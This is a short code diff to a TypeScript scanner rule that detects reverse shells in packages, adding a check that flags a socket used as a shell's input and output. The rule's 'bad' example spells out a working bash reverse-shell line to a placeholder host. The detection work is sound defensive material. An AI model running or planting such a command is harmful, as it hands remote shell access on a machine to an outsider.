@@ -12,6 +12,10 @@ export const reverseShell: Rule = {
   bad: { file: 'scripts/help.sh', source: '#!/bin/bash\nbash -i >& /dev/tcp/relay.example/4444 0>&1\n' },
   good: { file: 'scripts/help.sh', source: '#!/bin/bash\nset -e\nls data > /dev/null\n' },
   *inPackage(facts: PackageFacts): Iterable<Hit> {
+    for (const use of facts.uses) {
+      if (use.api !== 'socket as a shell') continue;
+      yield { severity: 'critical', place: use.place, message: 'A socket becomes the input and output of a shell' };
+    }
     for (const shell of facts.shells) {
       for (const threat of shellThreats(shell.text)) {
         if (threat.kind !== 'reverse-shell') continue;
